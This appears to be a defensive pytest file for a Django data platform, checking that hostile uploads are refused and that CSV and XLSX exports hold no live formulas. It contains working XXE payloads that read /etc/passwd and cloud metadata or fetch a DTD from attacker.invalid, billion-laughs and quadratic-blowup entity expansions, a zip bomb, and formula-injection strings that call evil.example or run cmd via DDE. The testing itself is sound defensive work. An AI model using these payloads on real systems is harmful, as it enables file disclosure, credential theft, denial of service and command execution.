"""Hostile files on every way in, and formula injection on every way out (issue #8, item 7).

Each hostile file is refused with a message that says why, under a second and 100 MB for the refusal itself
(time.perf_counter and tracemalloc: guard rails generous enough for a loaded 2-core machine), and with every
table's row count unchanged. test_uploads.py, test_sheets_hostile.py and test_iati_import.py hold the unit-level
cases; these go through the pages and the command line, and fill the gaps those leave.
"""

import csv
import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from typer.testing import CliRunner

from metrodiplomacy import uploads
from metrodiplomacy.actors.models import Organisation
from metrodiplomacy.cli import app as cli_app
from metrodiplomacy.coordination.models import Meeting
from metrodiplomacy.evidence.models import Source
from metrodiplomacy.exports import is_formula_like
from metrodiplomacy.importers.datapackage.reader import read_package
from metrodiplomacy.importers.datapackage.spec import tables
from metrodiplomacy.importers.iati import IatiFileInvalid, import_iati
from metrodiplomacy.importers.spreadsheet import ImportOptions, SpreadsheetInvalid, import_spreadsheet
from metrodiplomacy.importers.spreadsheet.open_data import open_data_tables
from metrodiplomacy.importers.spreadsheet.templates import XLSX_NAME
from metrodiplomacy.importers.twinning.reader import TwinningFileInvalid, read_pairs
from tests import test_coordination
from tests.test_coordination import PDF, SPACE
from tests.test_iati_samples import BILLION_LAUGHS
from tests.test_sheets_hostile import _workbook_skeleton, zip_bomb

metro = test_coordination.metro  # the shared fixtures: workspace `metro` of A and B, C elsewhere
media_in_tmp = test_coordination.media_in_tmp  # uploaded files land in a temporary folder

MEGABYTE = 1024 * 1024
MAX_SECONDS = 1.0
MAX_PEAK_BYTES = 100 * MEGABYTE
IATI_PAGE = "/workspace/iati/"
IMPORT_PAGE = "/workspace/import/"


def row_counts() -> dict[str, int]:
    return {model._meta.label: model._default_manager.count() for model in apps.get_models()}


def refused_within_bounds(refuse: Callable[[], Any]) -> Any:
    """Run the refusal, assert it took under a second and 100 MB of Python allocations, and return its result."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = refuse()
    finally:
        elapsed = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < MAX_SECONDS, f"the refusal took {elapsed:.2f} s"
    assert peak < MAX_PEAK_BYTES, f"the refusal allocated {peak / MEGABYTE:.0f} MB"
    return result


# --- XML entities, against the IATI import on the page and on the command line ----------------------------------

XXE_LOCAL = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<iati-activities version="2.03"><iati-activity><title><narrative>&secret;</narrative></title></iati-activity>
</iati-activities>"""
XXE_URL = XXE_LOCAL.replace(b"file:///etc/passwd", b"http://169.254.169.254/latest/meta-data/")
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<iati-activities version="2.03"/>"""
# One entity of 50,000 characters referenced 50,000 times: 2.5 GB of text without any nesting.
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE iati-activities [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]>\n<iati-activities version="2.03"><iati-activity><title><narrative>'
    + b"&a;" * 50_000
    + b"</narrative></title></iati-activity></iati-activities>"
)
# A DOCTYPE without the upper-case spelling the byte check looks for, in UTF-16 without a byte-order mark.
XXE_UTF16_NO_BOM = XXE_LOCAL.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16LE"?>').decode()

HOSTILE_XML = {
    "xxe-local-file": XXE_LOCAL,
    "xxe-url": XXE_URL,
    "xxe-parameter-entity": XXE_PARAMETER,
    "billion-laughs": BILLION_LAUGHS,
    "quadratic-blowup": QUADRATIC_BLOWUP,
    "xxe-utf16-no-bom": XXE_UTF16_NO_BOM.encode("utf-16-le"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_a_hostile_iati_file_is_refused_by_the_import_quickly_and_names_the_doctype(db, name):
    before = row_counts()

    def attempt():
        with pytest.raises(IatiFileInvalid) as refused:
            import_iati(HOSTILE_XML[name], f"{name}.xml")
        return refused.value.problems

    problems = refused_within_bounds(attempt)
    assert "DOCTYPE" in problems[0].column or "well-formed" in problems[0].reason, problems
    assert problems[0].file == f"{name}.xml"
    assert "root:" not in str(problems)  # /etc/passwd never read
    assert row_counts() == before


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_a_hostile_iati_file_is_refused_on_the_import_page(client, personas, name):
    client.force_login(personas["editor"])
    client.get(IATI_PAGE)  # the first request of a process imports and compiles; the refusal is what is timed
    before = row_counts()
    upload = SimpleUploadedFile(f"{name}.xml", HOSTILE_XML[name], content_type="application/xml")
    response = refused_within_bounds(
        lambda: client.post(IATI_PAGE, {"file": upload, "owner": "org-a", "visibility": "workspace"})
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert "DOCTYPE" in text or "accepted here" in text or "well-formed" in text
    assert "root:" not in text
    assert row_counts() == before


@pytest.mark.parametrize("name", ["xxe-local-file", "billion-laughs", "quadratic-blowup"])
def test_a_hostile_iati_file_is_refused_by_the_import_command(db, tmp_path, name):
    path = tmp_path / f"{name}.xml"
    path.write_bytes(HOSTILE_XML[name])
    before = row_counts()
    result = refused_within_bounds(
        lambda: CliRunner().invoke(cli_app, ["import", "iati", str(path)], env={"COLUMNS": "200"})
    )
    assert result.exit_code == 1, result.output
    assert "DOCTYPE" in result.output and "nothing was written" in result.output
    assert "root:" not in result.output
    assert row_counts() == before


# --- spreadsheets: bombs and a million rows, through the import and its page -----------------------------------


def million_row_workbook() -> io.BytesIO:
    """A one-sheet workbook of 1,000,000 rows as a spreadsheet program writes it (dimension declared): 60 MB of
    XML that packs into a few hundred kilobytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        _workbook_skeleton(archive)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<dimension ref="A1:C1000001"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c>'
                b'<c r="B1" t="inlineStr"><is><t>kind</t></is></c><c r="C1" t="inlineStr"><is><t>title</t></is></c>'
                b"</row>"
            )
            for start in range(2, 1_000_002, 10_000):
                member.write(
                    b"".join(
                        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>e-%d</t></is></c></row>' % (n, n, n)
                        for n in range(start, min(start + 10_000, 1_000_002))
                    )
                )
            member.write(b"</sheetData></worksheet>")
    buffer.seek(0)
    return buffer


def test_a_million_row_workbook_is_refused_within_a_second_and_100_mb(db):
    stream = million_row_workbook()
    assert len(stream.getvalue()) < 10 * MEGABYTE
    before = row_counts()

    def attempt():
        with pytest.raises(SpreadsheetInvalid) as refused:
            import_spreadsheet(stream, "million.xlsx", ImportOptions())
        return str(refused.value)

    message = refused_within_bounds(attempt)
    assert "rows" in message or "expands" in message
    assert row_counts() == before


def _post_sheet(client, org, data: bytes, name: str):
    upload = SimpleUploadedFile(name, data)
    return client.post(IMPORT_PAGE, {"file": upload, "organisation": org.pk, "visibility": "private"})


def test_a_zip_bomb_workbook_is_refused_on_the_import_page(client, personas, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    zip_bomb(bomb, expanded_megabytes=300)
    client.force_login(personas["editor"])
    client.get(IMPORT_PAGE)  # warm: the refusal is what is timed
    before = row_counts()
    response = refused_within_bounds(lambda: _post_sheet(client, personas["org_a"], bomb.read_bytes(), "bomb.xlsx"))
    assert response.status_code == 400
    assert "zip bomb" in response.content.decode() or "expands" in response.content.decode()
    assert row_counts() == before


# --- oversized uploads: 413 from the middleware on every upload page ------------------------------------------


@pytest.mark.parametrize("page", [IATI_PAGE, IMPORT_PAGE, SPACE + "mechanisms/metro-roundtable/meetings/"])
def test_an_upload_larger_than_any_accepted_file_is_answered_413_on_every_upload_page(client, metro, page):
    client.force_login(metro["editor-a"])
    before = row_counts()
    big = SimpleUploadedFile("big.csv", b"a,b\n" + b"0" * (uploads.DEFAULT_MAX_BYTES + 2 * MEGABYTE))
    response = client.post(page, {"file": big, "minutes": big, "date": "2026-04-02"})
    assert response.status_code == 413
    assert "limit is 20 MB" in response.content.decode()
    assert row_counts() == before


# --- wrong encodings -------------------------------------------------------------------------------------------

GOOD_ROWS = "id,kind,title\nfair-a,fair,Feria de Medellín\n"
WRONG_ENCODINGS = {
    "latin-1": GOOD_ROWS.encode("latin-1"),
    "utf-16-without-bom": GOOD_ROWS.encode("utf-16-le"),
    "binary-garbage": bytes(range(256)) * 8,
}


@pytest.mark.parametrize("encoding", sorted(WRONG_ENCODINGS))
def test_a_spreadsheet_in_a_wrong_encoding_is_refused_naming_what_is_wrong(db, encoding):
    before = row_counts()

    def attempt():
        with pytest.raises(SpreadsheetInvalid) as refused:
            import_spreadsheet(io.BytesIO(WRONG_ENCODINGS[encoding]), "engagements.csv", ImportOptions())
        return str(refused.value)

    message = refused_within_bounds(attempt)
    assert any(words in message for words in ("not UTF-8", "NUL", "looks like", "unknown type")), message
    assert "engagements.csv" in message
    assert row_counts() == before


@pytest.mark.parametrize("encoding", sorted(WRONG_ENCODINGS))
def test_a_spreadsheet_in_a_wrong_encoding_is_refused_on_the_import_page(client, personas, encoding):
    client.force_login(personas["editor"])
    before = row_counts()
    response = _post_sheet(client, personas["org_a"], WRONG_ENCODINGS[encoding], "engagements.csv")
    if response.status_code == 302:
        # Past the upload gate the page previews the file: its problems are listed and nothing can be committed.
        page = response["Location"]
        response = client.get(page)
        assert response.status_code == 200
        client.post(page + "commit/")  # a file with problems is never written, even when asked
    else:
        assert response.status_code == 400
    text = response.content.decode()
    assert any(words in text for words in ("not UTF-8", "NUL", "looks like", "unknown type")), text[-2000:]
    assert row_counts() == before


@pytest.mark.parametrize("encoding", sorted(WRONG_ENCODINGS))
def test_a_twinning_list_in_a_wrong_encoding_is_refused_naming_the_file(tmp_path, encoding):
    path = tmp_path / "twins.csv"
    path.write_bytes(WRONG_ENCODINGS[encoding].replace(b"id,kind,title", b"city_a,country_a,city_b,country_b"))
    with pytest.raises(TwinningFileInvalid) as refused:
        refused_within_bounds(lambda: read_pairs(path))
    assert refused.value.problems[0].file == "twins.csv"
    assert refused.value.problems[0].reason


def test_a_data_package_table_in_latin_1_is_explained_with_the_byte_and_the_fix(db, tmp_path):
    (tmp_path / "organisations.csv").write_bytes("id,name\nmedellin,Alcaldía de Medellín\n".encode("latin-1"))
    package = read_package(tmp_path)
    assert any(
        "not UTF-8" in problem.reason and "save the file as UTF-8" in problem.reason for problem in package.problems
    )


# --- malformed PDFs, where PDFs are accepted (minutes of coordination meetings) --------------------------------

MALFORMED_PDFS = {
    "truncated": PDF[: len(PDF) // 2],
    "header-only": b"%PDF-1.7\n",
    "no-trailer": b"%PDF-1.4\n" + b"\x00\xff" * 500,
}


@pytest.mark.parametrize("kind", sorted(MALFORMED_PDFS))
def test_malformed_pdf_minutes_are_refused_and_no_meeting_or_file_is_written(client, metro, settings, kind):
    client.force_login(metro["editor-a"])
    client.get(SPACE)  # warm: the refusal is what is timed
    before = row_counts()
    upload = SimpleUploadedFile("minutes.pdf", MALFORMED_PDFS[kind], content_type="application/pdf")
    url = SPACE + "mechanisms/metro-roundtable/meetings/"
    response = refused_within_bounds(lambda: client.post(url, {"date": "2026-04-02", "minutes": upload}))
    assert response.status_code == 400
    assert "not a complete PDF" in response.content.decode()
    assert row_counts() == before and not Meeting.objects.exists()
    media = settings.MEDIA_ROOT
    assert not any(path.is_file() for path in __import__("pathlib").Path(media).rglob("*"))


def test_a_whole_pdf_still_passes_the_gate():
    assert uploads.check_upload(io.BytesIO(PDF), "minutes.pdf", uploads.DOCUMENT_TYPES).kind == uploads.PDF


# --- formula injection on every export -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def formula_records(db):
    """Public, published records whose names a spreadsheet would run as formulas."""
    made = []
    for number, formula in enumerate(FORMULAS):
        made.append(
            Organisation.objects.create(
                key=f"formula-org-{number}",
                name=formula,
                kind="city_government",
                visibility="public",
                publication="published",
            )
        )
        made.append(
            Source.objects.create(
                key=f"formula-source-{number}",
                title=formula,
                kind="report",
                visibility="public",
                publication="published",
            )
        )
    return made


def assert_no_live_formula_in_csv(text: str, where: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    live = [cell for cell in cells if is_formula_like(cell)]
    assert not live, f"{where} carries formulas: {live[:3]}"
    return len(cells)


def test_open_data_csv_and_xlsx_carry_no_live_formula(client, formula_records):
    seen_formula_text = False
    for entity in [open_table.name for open_table in open_data_tables()]:
        response = client.get(f"/open-data/{entity}.csv")
        assert response.status_code == 200, entity
        text = response.content.decode()
        assert_no_live_formula_in_csv(text, f"/open-data/{entity}.csv")
        seen_formula_text |= "'=HYPERLINK" in text
        workbook = openpyxl.load_workbook(io.BytesIO(client.get(f"/open-data/{entity}.xlsx").content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row), f"/open-data/{entity}.xlsx has a formula cell"
    assert seen_formula_text  # the hostile names were exported, as text


def test_spreadsheet_templates_carry_no_live_formula(client, personas):
    client.force_login(personas["editor"])
    for table in tables():
        response = client.get(f"{IMPORT_PAGE}templates/{table.name}.csv")
        assert response.status_code == 200, table.name
        assert_no_live_formula_in_csv(response.content.decode(), table.name)
    response = client.get(f"{IMPORT_PAGE}templates/{XLSX_NAME}")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title


@pytest.mark.parametrize(
    "address",
    ["/sources.csv", "/search.csv?q=cmd", "/organisations/formula-org-0.csv", "/sources/formula-source-0.csv"],
)
def test_the_csv_twin_of_a_page_carries_no_live_formula(client, formula_records, address):
    response = client.get(address)
    assert response.status_code == 200, (address, response.content[:300])
    assert assert_no_live_formula_in_csv(response.content.decode(), address) > 0
